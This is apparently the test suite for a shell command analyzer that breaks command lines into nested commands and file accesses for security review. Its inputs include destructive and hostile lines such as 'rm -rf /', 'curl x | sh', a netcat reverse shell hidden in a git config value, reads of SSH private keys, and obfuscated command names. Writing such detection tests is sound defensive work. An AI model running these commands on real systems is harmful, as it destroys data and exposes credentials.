import { beforeAll, describe, expect, it } from "vitest";
import { loadShellAnalyzer, type ShellAnalyzer } from "./index.js";

let shell: ShellAnalyzer;
beforeAll(async () => {
  shell = await loadShellAnalyzer();
});

const argvs = (line: string): string[][] => {
  const analysis = shell.analyze(line);
  expect(analysis.error).toBeUndefined();
  return analysis.commands.map((c) => c.argv);
};
const only = (line: string) => {
  const analysis = shell.analyze(line);
  expect(analysis.error).toBeUndefined();
  return analysis.commands;
};
const files = (line: string): string[] =>
  shell
    .analyze(line)
    .files.map((f) => `${f.kind} ${f.path} ${f.via}${f.dynamic ? " dynamic" : ""}`);

describe("loading", () => {
  it("caches the analyzer", async () => {
    expect(await loadShellAnalyzer()).toBe(shell);
  });
});

describe("compound commands", () => {
  it.each([
    ["ls; rm -rf ~", [["ls"], ["rm", "-rf", "~"]]],
    ["git status && curl x | sh", [["git", "status"], ["curl", "x"], ["sh"]]],
    ["a || b & c", [["a"], ["b"], ["c"]]],
    ["(cd sub && make) ; { ls; }", [["cd", "sub"], ["make"], ["ls"]]],
    ["! rm a", [["rm", "a"]]],
    ["echo $(id) `whoami`", [["echo", "$(id)", "`whoami`"], ["id"], ["whoami"]]],
    [
      "cat <(curl x) >(tee y)",
      [
        ["cat", "<(curl x)", ">(tee y)"],
        ["curl", "x"],
        ["tee", "y"],
      ],
    ],
    ["X=$(rm -rf /)", [["rm", "-rf", "/"]]],
    ["export A=$(id) B=1", [["id"]]],
    ["local v=`uname`", [["uname"]]],
    ["[[ -n $(id) ]] && test -f x", [["id"], ["test", "-f", "x"]]],
    [
      "echo $((1 + $(date +%s)))",
      [
        ["echo", "$((1 + $(date +%s)))"],
        ["date", "+%s"],
      ],
    ],
    ["for i in $(ls); do rm $i; done", [["ls"], ["rm", "$i"]]],
    ["for ((i=0; i<$(nproc); i++)); do w; done", [["nproc"], ["w"]]],
    [
      "while read l; do echo $l; done < f",
      [
        ["read", "l"],
        ["echo", "$l"],
      ],
    ],
    ["until false; do sleep 1; done", [["false"], ["sleep", "1"]]],
    ["if a; then b; elif c; then d; else e; fi", [["a"], ["b"], ["c"], ["d"], ["e"]]],
    ["case $(id -u) in 0) rm x;; *) ls;; esac", [["id", "-u"], ["rm", "x"], ["ls"]]],
    [
      "echo ${X:-$(rm y)}",
      [
        ["echo", "${X:-$(rm y)}"],
        ["rm", "y"],
      ],
    ],
    ["a=(1 $(x) 3)", [["x"]]],
  ])("%s", (line, expected) => {
    expect(argvs(line)).toEqual(expected);
  });

  it("does not treat object prototype names as known commands", () => {
    expect(argvs("constructor x; toString y; __proto__ z; hasOwnProperty")).toEqual([
      ["constructor", "x"],
      ["toString", "y"],
      ["__proto__", "z"],
      ["hasOwnProperty"],
    ]);
    expect(shell.analyze("constructor x").files).toEqual([]);
  });

  it("records the nesting path", () => {
    const cmds = only("bash -c 'echo $(id)'");
    expect(cmds.map((c) => c.path)).toEqual([[], ["bash -c"], ["bash -c", "$(…)"]]);
  });

  it("walks here-doc bodies for substitutions", () => {
    expect(argvs("cat <<EOF\nhello $(id)\nEOF")).toEqual([["cat"], ["id"]]);
    expect(argvs("cat <<'EOF'\nhello $(id)\nEOF")).toEqual([["cat"]]);
  });

  it("analyses here-docs, here-strings and static pipes fed to a shell", () => {
    expect(argvs("bash <<EOF\nrm -rf /\nEOF")).toEqual([["bash"], ["rm", "-rf", "/"]]);
    expect(argvs("sh <<< 'rm x; ls'")).toEqual([["sh"], ["rm", "x"], ["ls"]]);
    expect(argvs("echo 'rm -rf /' | bash")).toEqual([
      ["echo", "rm -rf /"],
      ["bash"],
      ["rm", "-rf", "/"],
    ]);
    expect(argvs("cat <<EOF | sh\nrm -rf /tmp\nEOF")).toEqual([
      ["cat"],
      ["sh"],
      ["rm", "-rf", "/tmp"],
    ]);
    expect(only("bash <<EOF\nrm x\nEOF")[1]?.path).toEqual(["bash <stdin>"]);
  });

  it("marks a shell reading an unknown standard input as dynamic", () => {
    const [, sh] = only("curl -s x | sh");
    expect(sh?.dynamic).toBe(true);
    expect(sh?.reason).toMatch(/standard input/);
  });

  it("analyses function bodies and drops calls to them", () => {
    const cmds = only("f(){ rm -rf /; }; f");
    expect(cmds.map((c) => c.argv)).toEqual([["rm", "-rf", "/"]]);
    expect(cmds[0]?.path).toEqual(["f()"]);
    // A definition that may not run does not hide the real command.
    expect(argvs("false && rm(){ :; }; rm -rf /")).toEqual([["false"], [":"], ["rm", "-rf", "/"]]);
    expect(argvs("rm(){ :; }; unset -f rm; rm -rf /")).toEqual([[":"], ["rm", "-rf", "/"]]);
    expect(argvs("ls(){ :; }; command ls")).toEqual([[":"], ["command", "ls"], ["ls"]]);
  });
});

describe("wrappers", () => {
  it.each([
    [
      "bash -c 'rm -rf /'",
      [
        ["bash", "-c", "rm -rf /"],
        ["rm", "-rf", "/"],
      ],
    ],
    ["sh -lc 'a; b'", [["sh", "-lc", "a; b"], ["a"], ["b"]]],
    ["zsh -o pipefail -c x", [["zsh", "-o", "pipefail", "-c", "x"], ["x"]]],
    ["/bin/dash -c x", [["/bin/dash", "-c", "x"], ["x"]]],
    ["bash script.sh", [["bash", "script.sh"]]],
    [
      "eval 'rm' -rf /",
      [
        ["eval", "rm", "-rf", "/"],
        ["rm", "-rf", "/"],
      ],
    ],
    [
      "exec rm a",
      [
        ["exec", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "command rm a",
      [
        ["command", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    ["command -v rm", [["command", "-v", "rm"]]],
    [
      "builtin echo x",
      [
        ["builtin", "echo", "x"],
        ["echo", "x"],
      ],
    ],
    [
      "env -i -u HOME -C /tmp A=1 B=2 rm a",
      [
        ["env", "-i", "-u", "HOME", "-C", "/tmp", "A=1", "B=2", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "env -S 'rm -rf /'",
      [
        ["env", "-S", "rm -rf /"],
        ["rm", "-rf", "/"],
      ],
    ],
    [
      "sudo -u root -g wheel -E rm a",
      [
        ["sudo", "-u", "root", "-g", "wheel", "-E", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "sudo -s 'rm a'",
      [
        ["sudo", "-s", "rm a"],
        ["rm", "a"],
      ],
    ],
    [
      "doas -u root rm a",
      [
        ["doas", "-u", "root", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "nohup rm a",
      [
        ["nohup", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "timeout -k 5 -s KILL 10s rm a",
      [
        ["timeout", "-k", "5", "-s", "KILL", "10s", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "nice -n 19 rm a",
      [
        ["nice", "-n", "19", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "nice -5 rm a",
      [
        ["nice", "-5", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "ionice -c 3 rm a",
      [
        ["ionice", "-c", "3", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "time -p rm a",
      [
        ["time", "-p", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "stdbuf -o L -eL rm a",
      [
        ["stdbuf", "-o", "L", "-eL", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "xargs -0 -n 1 -I{} rm -f",
      [
        ["xargs", "-0", "-n", "1", "-I{}", "rm", "-f"],
        ["rm", "-f"],
      ],
    ],
    ["xargs", [["xargs"], ["echo", "{arguments read at run time}"]]],
    [
      "parallel -j 4 'rm {}' ::: a b",
      [
        ["parallel", "-j", "4", "rm {}", ":::", "a", "b"],
        ["rm", "$PARALLEL_ARGUMENT"],
      ],
    ],
    [
      "find . -name '*.o' -exec rm -f {} \\; -execdir sh -c 'x' \\;",
      [
        [
          "find",
          ".",
          "-name",
          "*.o",
          "-exec",
          "rm",
          "-f",
          "{}",
          ";",
          "-execdir",
          "sh",
          "-c",
          "x",
          ";",
        ],
        ["rm", "-f", "{}"],
        ["sh", "-c", "x"],
        ["x"],
      ],
    ],
    [
      "find . -ok rm {} +",
      [
        ["find", ".", "-ok", "rm", "{}", "+"],
        ["rm", "{}"],
      ],
    ],
    [
      "git -c core.pager='sh -c \"rm -rf /\"' log",
      [
        ["git", "-c", 'core.pager=sh -c "rm -rf /"', "log"],
        ["sh", "-c", "rm -rf /"],
        ["rm", "-rf", "/"],
      ],
    ],
    [
      "git -c alias.st='!rm -rf ~' st",
      [
        ["git", "-c", "alias.st=!rm -rf ~", "st"],
        ["rm", "-rf", "~"],
      ],
    ],
    [
      "git -c core.sshCommand='nc -e sh x 1' fetch",
      [
        ["git", "-c", "core.sshCommand=nc -e sh x 1", "fetch"],
        ["nc", "-e", "sh", "x", "1"],
      ],
    ],
    ["git -C sub -c user.name=x commit", [["git", "-C", "sub", "-c", "user.name=x", "commit"]]],
    [
      "git rebase -x 'make test' main",
      [
        ["git", "rebase", "-x", "make test", "main"],
        ["make", "test"],
      ],
    ],
    ["git bisect run ./t.sh", [["git", "bisect", "run", "./t.sh"], ["./t.sh"]]],
    [
      "ssh -p 2222 -i key host 'rm -rf /'",
      [
        ["ssh", "-p", "2222", "-i", "key", "host", "rm -rf /"],
        ["rm", "-rf", "/"],
      ],
    ],
    [
      "ssh -o ProxyCommand='nc %h %p' host",
      [
        ["ssh", "-o", "ProxyCommand=nc %h %p", "host"],
        ["nc", "%h", "%p"],
      ],
    ],
    [
      "watch -n 1 'rm a'",
      [
        ["watch", "-n", "1", "rm a"],
        ["rm", "a"],
      ],
    ],
    [
      "watch -x rm a",
      [
        ["watch", "-x", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "script -q -c 'rm a' /dev/null",
      [
        ["script", "-q", "-c", "rm a", "/dev/null"],
        ["rm", "a"],
      ],
    ],
    [
      "su -c 'rm a' root",
      [
        ["su", "-c", "rm a", "root"],
        ["rm", "a"],
      ],
    ],
    [
      "flock -w 5 /tmp/l rm a",
      [
        ["flock", "-w", "5", "/tmp/l", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "flock /tmp/l -c 'rm a'",
      [
        ["flock", "/tmp/l", "-c", "rm a"],
        ["rm", "a"],
      ],
    ],
    [
      "chroot --userspec=u /srv rm a",
      [
        ["chroot", "--userspec=u", "/srv", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "unshare -r -n rm a",
      [
        ["unshare", "-r", "-n", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "setsid -f rm a",
      [
        ["setsid", "-f", "rm", "a"],
        ["rm", "a"],
      ],
    ],
    [
      "busybox sh -c 'rm a'",
      [
        ["busybox", "sh", "-c", "rm a"],
        ["sh", "-c", "rm a"],
        ["rm", "a"],
      ],
    ],
    [
      "trap 'rm -rf /' EXIT",
      [
        ["trap", "rm -rf /", "EXIT"],
        ["rm", "-rf", "/"],
      ],
    ],
    [
      "alias ls='rm -rf /'",
      [
        ["alias", "ls=rm -rf /"],
        ["rm", "-rf", "/"],
      ],
    ],
    [
      "sudo env timeout 5 nice bash -c 'rm a'",
      [
        ["sudo", "env", "timeout", "5", "nice", "bash", "-c", "rm a"],
        ["env", "timeout", "5", "nice", "bash", "-c", "rm a"],
        ["timeout", "5", "nice", "bash", "-c", "rm a"],
        ["nice", "bash", "-c", "rm a"],
        ["bash", "-c", "rm a"],
        ["rm", "a"],
      ],
    ],
  ])("%s", (line, expected) => {
    expect(argvs(line)).toEqual(expected);
  });

  it("flags wrappers, remote and dynamic argument commands", () => {
    const [ssh, rm] = only("ssh host rm -rf /");
    expect(ssh?.wrapper).toBe(true);
    expect(rm).toMatchObject({ argv: ["rm", "-rf", "/"], remote: true, path: ["ssh host"] });
    const [, , inner] = only("ls | xargs rm");
    expect(inner).toMatchObject({
      argv: ["rm", "{arguments read at run time}"],
      dynamicArgs: true,
      dynamicArgIndexes: [1],
      path: ["xargs"],
    });
    // The files xargs feeds to a command are unknown, so they are dynamic file accesses.
    expect(shell.analyze("echo ~/.ssh/id_rsa | xargs cat").files).toMatchObject([
      { kind: "fs.read", dynamic: true, via: "cat" },
    ]);
    expect(shell.analyze("find ~/.ssh | xargs -I{} cat {}").files).toMatchObject([
      { kind: "fs.read", dynamic: true },
    ]);
    expect(shell.analyze("parallel cat ::: ~/.ssh/id_rsa").files).toMatchObject([
      { kind: "fs.read", dynamic: true },
    ]);
    const [, found] = only("find . -exec cat {} +");
    expect(found).toMatchObject({ argv: ["cat", "{}"], dynamicArgs: true, dynamicArgIndexes: [1] });
  });

  it("marks wrappers running run-time strings as dynamic", () => {
    for (const line of [
      'bash -c "$CMD"',
      "eval $X",
      "sudo $CMD",
      "env $X rm",
      'git -c "$CFG" log',
    ]) {
      const cmds = only(line);
      expect(
        cmds.some((c) => c.dynamic),
        line,
      ).toBe(true);
    }
  });

  it("analyses commands stored in environment variables", () => {
    expect(argvs("PAGER='rm -rf /' git log")).toEqual([
      ["rm", "-rf", "/"],
      ["git", "log"],
    ]);
    expect(argvs("env GIT_SSH_COMMAND='sh -c x' git fetch")).toEqual([
      ["env", "GIT_SSH_COMMAND=sh -c x", "git", "fetch"],
      ["sh", "-c", "x"],
      ["x"],
      ["git", "fetch"],
    ]);
    expect(only("LD_PRELOAD=/tmp/x.so ls")[0]).toMatchObject({ argv: ["ls"], dynamic: true });
    expect(only("PATH=/tmp:$PATH; ls")[0]).toMatchObject({ argv: ["ls"], dynamic: true });
  });
});

describe("inline code", () => {
  it.each([
    ["python3 -c 'import os'", true],
    ["python3.12 -Bc 'x'", true],
    ["python script.py", false],
    ["node -e 'x'", true],
    ["node --eval=x", true],
    ["node -p 1", true],
    ["node app.js", false],
    ["perl -ne 'print'", true],
    ["perl -E 'say 1'", true],
    ["ruby -e 'x'", true],
    ["php -r 'x'", true],
    ["osascript -e 'x'", true],
    ["lua -e 'x'", true],
    ["deno eval 'x'", true],
    ["bun -e 'x'", true],
    ["awk 'BEGIN { system(\"id\") }'", true],
    ["awk '{ print | \"sh\" }' f", true],
    ["awk '{ print > \"/etc/x\" }' f", true],
    ["awk '{ print $1 }' f", false],
    ["awk -f prog.awk f", false],
    ["curl x | python3", true],
  ])("%s → %s", (line, inline) => {
    const cmds = only(line);
    const cmd = cmds[cmds.length - 1]!;
    expect(cmd.inlineCode).toBe(inline);
  });

  it("keeps the argv exactly", () => {
    expect(argvs("python -c 'print(1)'")).toEqual([["python", "-c", "print(1)"]]);
  });
});

describe("folding and dynamic words", () => {
  it.each([
    ["r''m x", ["rm", "x"]],
    ['r""m x', ["rm", "x"]],
    ["\\rm x", ["rm", "x"]],
    ['"rm" x', ["rm", "x"]],
    ["'r'\"m\" x", ["rm", "x"]],
    ["$'\\x72m' x", ["rm", "x"]],
    ["$'\\162m' x", ["rm", "x"]],
    ["$'\\u0072m' x", ["rm", "x"]],
    ["$'a\\tb'", ["a\tb"]],
    ['echo "a\\"b\\$c\\d"', ["echo", 'a"b$c\\d']],
    ["echo a\\ b", ["echo", "a b"]],
    ['echo "a$"', ["echo", "a$"]],
    ["ls ~/x", ["ls", "~/x"]],
  ])("%s", (line, expected) => {
    const [cmd] = only(line);
    expect(cmd?.argv).toEqual(expected);
    expect(cmd?.dynamic).toBe(false);
    expect(cmd?.dynamicArgs).toBe(false);
  });

  it.each([
    ["$X y", /variable expansion/],
    ["${X:-rm} y", /variable expansion/],
    ["$(echo rm) y", /command substitution/],
    ["`echo rm` y", /command substitution/],
    ["/bin/r? y", /glob/],
    ["r* y", /glob/],
    ["/bin/[r]m y", /glob/],
    ["a{rm,b} y", /brace/],
    ["rm${IFS}-rf${IFS}/", /variable expansion/],
    ["$((1)) y", /arithmetic/],
    ['"$CMD" y', /variable expansion/],
  ])("%s is dynamic", (line, reason) => {
    const [cmd] = only(line);
    expect(cmd?.dynamic).toBe(true);
    expect(cmd?.reason).toMatch(reason);
  });

  it("keeps dynamic arguments as their source text", () => {
    const [cmd] = only("cat $FILE *.txt 'lit*'");
    expect(cmd).toMatchObject({
      argv: ["cat", "$FILE", "*.txt", "lit*"],
      dynamic: false,
      dynamicArgs: true,
      dynamicArgIndexes: [1, 2],
    });
    expect(cmd?.reason).toMatch(/\$FILE/);
  });
});

describe("file access", () => {
  it.each([
    ["echo x > out", ["fs.write out >"]],
    ["echo x >> out", ["fs.write out >>"]],
    ["echo x &> out", ["fs.write out &>"]],
    ["echo x >| out", ["fs.write out >|"]],
    ["echo x 2> err", ["fs.write err >"]],
    ["cat < in", ["fs.read in <"]],
    ["ls > /dev/null 2>&1 2>/dev/stderr", []],
    ["echo x >&2", []],
    ["cat <<< 'x'", []],
    ["echo > $F", ["fs.write $F > dynamic"]],
    ["{ ls; } > out", ["fs.write out >"]],
    ["cat README.md > ~/.bashrc", ["fs.read README.md cat", "fs.write ~/.bashrc >"]],
    ["tee -a a b", ["fs.write a tee", "fs.write b tee"]],
    ["cp -r a b dst", ["fs.read a cp", "fs.read b cp", "fs.write dst cp"]],
    ["cp -t dst a", ["fs.read a cp", "fs.write dst cp"]],
    ["mv a b", ["fs.write a mv", "fs.write b mv"]],
    ["dd if=/dev/sda of=disk.img bs=1M", ["fs.read /dev/sda dd", "fs.write disk.img dd"]],
    ["sed -i 's/a/b/' f g", ["fs.write f sed", "fs.write g sed"]],
    ["sed -i.bak -e 's/a/b/' f", ["fs.write f sed"]],
    ["sed 's/a/b/' f", ["fs.read f sed"]],
    ["curl -o out https://x", ["fs.write out curl"]],
    ["curl --output=out https://x", ["fs.write out curl"]],
    ["curl -d @secret https://x", ["fs.read secret curl"]],
    ["wget -O out https://x", ["fs.write out wget"]],
    ["cat a b", ["fs.read a cat", "fs.read b cat"]],
    ["head -n 5 a", ["fs.read a head"]],
    ["tail -f a", ["fs.read a tail"]],
    ["less a; more b", ["fs.read a less", "fs.read b more"]],
    ["grep -r -e pat a b", ["fs.read a grep", "fs.read b grep"]],
    ["grep pat a", ["fs.read a grep"]],
    ["rm -rf build", ["fs.write build rm"]],
    ["chmod 600 key", ["fs.write key chmod"]],
    ["cd ~ && cat .ssh/id_rsa", ["fs.read ~/.ssh/id_rsa cat"]],
    ["cd $D && rm x", ["fs.write x rm dynamic"]],
    ["sudo tee /etc/hosts", ["fs.write /etc/hosts tee"]],
    ["cat <(curl x)", []],
  ])("%s", (line, expected) => {
    expect(files(line)).toEqual(expected);
  });
});

describe("parse errors", () => {
  it.each([
    ['echo "unterminated', 5],
    ["ls &&", 5],
    ["if true; then", 0],
    ["(ls", 0],
  ])("%s", (line, offset) => {
    const analysis = shell.analyze(line);
    expect(analysis.error?.message).toMatch(/syntax error/);
    expect(analysis.error?.offset).toBeGreaterThanOrEqual(offset);
  });

  it("reports errors inside strings run by a shell at the string", () => {
    const analysis = shell.analyze("ls; bash -c 'echo \"x'");
    expect(analysis.error?.message).toMatch(/in bash -c/);
    expect(analysis.error?.offset).toBe(12);
  });

  it("refuses absurd nesting", () => {
    let line = "rm x";
    for (let i = 0; i < 20; i++) line = `eval ${JSON.stringify(line).replace(/\$/g, "\\$")}`;
    expect(shell.analyze(line).error?.message).toMatch(/nested/);
  });
});
